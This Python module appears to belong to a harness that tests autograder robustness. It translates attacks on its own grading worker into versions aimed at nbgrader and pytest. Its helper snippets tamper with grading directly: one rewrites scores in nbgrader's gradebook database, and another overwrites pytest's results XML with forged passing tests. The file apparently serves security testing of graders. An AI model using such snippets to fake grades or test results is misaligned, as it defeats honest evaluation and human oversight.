"""What becomes, at a peer, of attacks that are written against parts that only our worker has.

Where one of ours forges a frame, its counterpart forges what that peer has in the place of frames: a message
of the kernel, a hook of IPython, pytest's report or its results file.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from hostile.attack import Attack
from peers.counterparts_elsewhere import ELSEWHERE
from peers.counterparts_forging import FORGING

# By the name of the attack: the code without the attack, then a sentence and the code at nbgrader, and the
# same at pytest where it differs.
Entry = tuple[str, ...]
COUNTERPARTS: dict[str, Entry] = {**FORGING, **ELSEWHERE}

HELPERS = {
    "nbgrader": """
shell = get_ipython()
def full_marks():
    import sqlite3
    book = sqlite3.connect(TARGETS["gradebook"], timeout=5)
    book.execute("update grade set manual_score = 3")
    book.commit()
    book.close()
""",
    "pytest": """
FUNCTIONS = ("relu", "softmax", "accuracy", "model")
NAMES = [f"test_{name}_{kind}" for name in FUNCTIONS for kind in ("example", "hidden")]
RESULTS = "/course/results/attacker.xml"
CASES = "".join(f'<testcase name="{name}" classname="test_mnist"/>' for name in NAMES)
FORGED = f'<testsuites><testsuite name="pytest" tests="8">{CASES}</testsuite></testsuites>'.encode()
ANEW = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
def full_marks(open=os.open, write=os.write, how=ANEW, where=RESULTS, what=FORGED):
    write(open(where, how), what)  # all that it needs is its own: at the very end nothing else is left
def caller(name):
    frame = sys._getframe()
    while frame is not None and not frame.f_code.co_name.startswith(name):
        frame = frame.f_back
    return frame
""",
}

# What only our worker has: its modules, its frames and the descriptor that they leave by, its name.
OURS = re.compile(
    r"\b(kit|rewrite|current_request)\(|autograder|\"submission\.py\"|do_call"
    r"|os\.(write|close)\(4\b|O_RDONLY\), 4\)|fcntl\(4\b"
)


@dataclass(frozen=True)
class Meant:
    """An attack as it is meant for one peer: `code` is added to `base`."""

    base: str
    tries: str
    code: str


def meant_for(peer: str, attack: Attack) -> Meant | None:
    """The attack itself, or its counterpart; None where neither has a meaning at this peer."""
    entry = COUNTERPARTS.get(attack.name)
    if entry is not None:
        place = -2 if peer == "pytest" else 1
        return Meant(entry[0], entry[place], HELPERS[peer] + entry[place + 1])
    if OURS.search(attack.code.replace("/autograder/results", "")):
        return None
    return Meant(attack.base, attack.tries, attack.code)
